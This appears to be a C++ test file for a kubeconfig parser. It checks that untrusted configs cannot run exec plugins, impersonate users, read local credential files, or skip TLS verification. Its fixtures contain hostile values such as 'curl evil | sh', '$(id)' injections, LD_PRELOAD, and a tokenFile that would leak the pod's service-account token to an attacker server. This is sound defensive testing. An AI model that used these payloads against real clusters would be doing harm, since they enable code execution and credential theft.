// Kubeconfigs that would run programs, read files or act as somebody else: S01, S05, S06 and S07 of reliability's
// security plan. What a stranger wrote is refused by name, and what makes no sense, whoever wrote it.
#include <kcontrol/auth/kubeconfig.hpp>
#include <kcontrol/testing/manual_environment.hpp>

#include <doctest/doctest.h>

using namespace kcontrol;
using namespace kcontrol::auth;

namespace {

std::string file_with(const std::string& cluster, const std::string& user) {
    return "current-context: c\nclusters: [{name: k, cluster: {" + cluster + "}}]\nusers: [{name: u, user: {" + user +
           "}}]\ncontexts: [{name: c, context: {cluster: k, user: u}}]\n";
}

/// Why it is refused; "accepted" if it is not.
std::string refusal(const std::string& text, const trust& level) {
    testing::manual_environment env;
    for (const char* path : {"/var/run/secrets/kubernetes.io/serviceaccount/token", "/etc/kube/config"}) {
        env.files[path] = "CANARY";
    }
    const auto file = kubeconfig::parse(text, "/etc/kube/config", level);
    const auto config = file ? file->resolve(env) : result<cluster_config>(file.error());
    if (config) return "accepted";
    CHECK(config.error() == errc::invalid_config);
    CHECK(config.error().what().find("CANARY") == std::string::npos);
    return config.error().message();
}

bool begins(const std::string& text, std::string_view what) {
    return text.find("/etc/kube/config: " + std::string(what)) == 0;
}

}  // namespace

TEST_CASE("S06 a stranger's kubeconfig runs no program, however it is written") {
    for (const char* exec :
         {"exec: {apiVersion: client.authentication.k8s.io/v1, command: aws, args: [eks, get-token]}",
          "exec: {apiVersion: client.authentication.k8s.io/v1beta1, command: ./helper}",
          "exec: {apiVersion: client.authentication.k8s.io/v1alpha1, command: ../../bin/sh}",
          "exec: {command: /bin/sh, args: [-c, 'curl evil | sh; echo CANARY']}",
          "exec: {command: sh, args: ['$IFS', '`id`', '$(id)', 'a;b', \"'\", '\"']}",
          "exec: {command: x, env: [{name: LD_PRELOAD, value: CANARY}]}",
          "exec: {command: x, installHint: \"\\e[31mCANARY\\a\"}", "exec: {command: x, interactiveMode: Always}",
          "exec: {command: x, provideClusterInfo: true}", "exec: {}", "token: CANARY, exec: {command: x}"}) {
        CAPTURE(std::string(exec));
        const auto why = refusal(file_with("server: https://x", exec), trust::untrusted);
        CHECK_MESSAGE(begins(why, "user \"u\": exec: an untrusted kubeconfig may not run programs ("), why);
    }
    for (const char* provider :
         {"auth-provider: {name: oidc, config: {id-token: CANARY}}",
          "auth-provider: {name: gcp, config: {cmd-path: /bin/sh, cmd-args: -c id}}", "auth-provider: {}"}) {
        for (const auto& level : {trust::trusted, trust::untrusted}) {
            const auto why = refusal(file_with("server: https://x", provider), level);
            CHECK_MESSAGE(begins(why, "user \"u\": auth-provider: \""), why);
        }
    }
}

TEST_CASE("S06 a program that can't be run as it is written is refused, whoever wrote it") {
    const std::string v1 = "apiVersion: client.authentication.k8s.io/v1, ";
    struct row {
        std::string exec;
        const char* begin;
    };
    for (const auto& r :
         {row{"", "exec.command: empty"}, row{v1, "exec.command: empty"},
          row{"command: x", "exec.apiVersion: \"\": only client.authentication.k8s.io/v1 and v1beta1"},
          row{"command: x, apiVersion: client.authentication.k8s.io/v1alpha1", "exec.apiVersion: \"client.auth"},
          row{v1 + "command: x", "exec.interactiveMode: not set"},
          row{v1 + "command: x, interactiveMode: Sometimes", "exec.interactiveMode: \"Sometimes\": only"},
          row{v1 + "command: x, interactiveMode: Never, env: [{value: CANARY}]", "exec.env: a variable without"},
          row{v1 + "command: x, interactiveMode: Never, env: [{name: 'A=B', value: CANARY}]", "exec.env: a var"}}) {
        CAPTURE(r.exec);
        const auto why = refusal(file_with("server: https://x", "exec: {" + r.exec + "}"), trust::trusted);
        CHECK_MESSAGE(begins(why, std::string("user \"u\": ") + r.begin), why);
    }
    const std::string allowed = "exec: {" + v1 + "command: ./helper, interactiveMode: Never}";
    const auto why = refusal(file_with("server: https://x", allowed), trust::untrusted.allow_programs({"/helper"}));
    CHECK_MESSAGE(begins(why, "user \"u\": exec.command: \"./helper\": an untrusted kubeconfig has no directory"), why);
    const std::string asking = "exec: {" + v1 + "command: /helper, interactiveMode: Always}";
    const auto terminal = refusal(file_with("server: https://x", asking), trust::untrusted.allow_programs({"/helper"}));
    CHECK_MESSAGE(begins(terminal, "user \"u\": exec.interactiveMode: Always: the plugin of an untrusted"), terminal);
}

TEST_CASE("S07 nobody acts as himself where somebody else was meant") {
    struct row {
        const char* user;
        const char* trusted;  // why it is refused even so
    };
    for (const auto& r :
         {row{"as: root", ""}, row{"as: ''", "as: empty"}, row{"as: \"\"", "as: empty"}, row{"as: ' '", "as: empty"},
          row{"as: '', as-groups: ['system:masters']", "as: empty"},
          row{"as-groups: ['system:masters']", "as-groups: there is no user to impersonate"},
          row{"as-groups: []", "as-groups: there is no user"}, row{"as-groups: ['']", "as-groups: there is no user"},
          row{"as-uid: ''", "as-uid: there is no user"}, row{"as-uid: '7'", "as-uid: there is no user"},
          row{"as: root, as-groups: [a], as-uid: '7', as-user-extra: {a: [b]}", ""},
          row{"as: root, as-groups: ['']", "as-groups: holds an empty name"},
          row{"as: root, as-uid: ''", "as-uid: empty"},
          row{"as: root, as-user-extra: {'': [b]}", "as-user-extra: holds an empty key"},
          row{"as-user-extra: {scopes: [view]}", "as-user-extra: there is no user"},
          row{"as-user-extra: {}", "as-user-extra: there is no user"}}) {
        CAPTURE(std::string(r.user));
        const std::string text = file_with("server: https://x", std::string("token: CANARY, ") + r.user);
        const auto theirs = refusal(text, trust::untrusted);
        CHECK_MESSAGE(begins(theirs, "user \"u\": as"), theirs);
        CHECK_MESSAGE(theirs.find(": an untrusted kubeconfig may not impersonate anybody") != std::string::npos,
                      theirs);
        for (const auto& level : {trust::trusted, trust::untrusted.allow(kubeconfig_feature::impersonation)}) {
            const auto ours = refusal(text, level);
            const bool right = *r.trusted ? begins(ours, std::string("user \"u\": ") + r.trusted) : ours == "accepted";
            CHECK_MESSAGE(right, ours);
        }
    }
    CHECK(refusal(file_with("server: https://x", "token: CANARY, as: null"), trust::untrusted) == "accepted");
}

TEST_CASE("S05 a stranger's kubeconfig names no file and no way round") {
    struct row {
        const char* cluster;
        const char* user;
        const char* begin;
    };
    // The first one is how the pod's own token would go to a server of the author's choice.
    for (const auto& r :
         {row{"server: https://evil", "tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token",
              "user \"u\": tokenFile: an untrusted"},
          row{"server: https://evil", "token: a, tokenFile: ../../proc/self/environ",
              "user \"u\": tokenFile: an untrusted"},
          row{"server: https://evil", "client-certificate: /etc/kube/config, client-key: /etc/kube/config",
              "user \"u\": client-certificate: an untrusted"},
          row{"server: https://evil", "client-certificate-data: QQ==, client-key: /etc/kube/config",
              "user \"u\": client-key: an untrusted"},
          row{"server: https://evil, certificate-authority: /etc/kube/config", "",
              "cluster \"k\": certificate-authority: an untrusted"},
          row{"server: https://evil, certificate-authority: /etc/kube/config, certificate-authority-data: QQ==", "",
              "cluster \"k\": certificate-authority: an untrusted"},
          row{"server: https://x, proxy-url: 'http://169.254.169.254'", "", "cluster \"k\": proxy-url: "},
          row{"server: https://x, proxy-url: 'socks5://evil:1080'", "", "cluster \"k\": proxy-url: "},
          row{"server: https://x, insecure-skip-tls-verify: true", "", "cluster \"k\": insecure-skip-tls-verify: "},
          row{"server: http://evil", "token: CANARY", "server http://evil:80 is plain http"},
          row{"server: 'file:///etc/passwd'", "", "cluster \"k\": server: "},
          row{"server: 'unix:///var/run/docker.sock'", "", "cluster \"k\": server: "}}) {
        CAPTURE(std::string(r.cluster) + " " + r.user);
        const auto why = refusal(file_with(r.cluster, r.user), trust::untrusted);
        CHECK_MESSAGE(begins(why, r.begin), why);
    }
    // Its own password goes to its own server.
    CHECK(refusal(file_with("server: https://x", "username: a, password: CANARY"), trust::untrusted) == "accepted");
}

TEST_CASE("S01 certificates that are not verified, or an authority that is none, are errors of the configuration") {
    const auto cluster = [](const std::string& fields) {
        return refusal(file_with("server: https://x, " + fields, ""), trust::trusted);
    };
    CHECK(begins(cluster("insecure-skip-tls-verify: true, certificate-authority-data: QQ=="),
                 "cluster \"k\": insecure-skip-tls-verify: true beside certificate-authority"));
    CHECK(begins(cluster("insecure-skip-tls-verify: true, certificate-authority: /etc/kube/config"),
                 "cluster \"k\": insecure-skip-tls-verify: "));
    CHECK(begins(cluster("certificate-authority-data: ' '"), "cluster \"k\": certificate-authority-data: empty"));
    CHECK(begins(cluster("certificate-authority-data: \"\\n\""), "cluster \"k\": certificate-authority-data: empty"));
    CHECK(begins(cluster("certificate-authority-data: '-----BEGIN CERTIFICATE-----'"),
                 "cluster \"k\": certificate-authority-data: not base64"));
    CHECK(cluster("insecure-skip-tls-verify: 'true'").find("insecure-skip-tls-verify") != std::string::npos);
    // Text that is no certificate is refused when the transport is made (tls_test.cpp).
    CHECK(cluster("certificate-authority-data: QQ==") == "accepted");
}
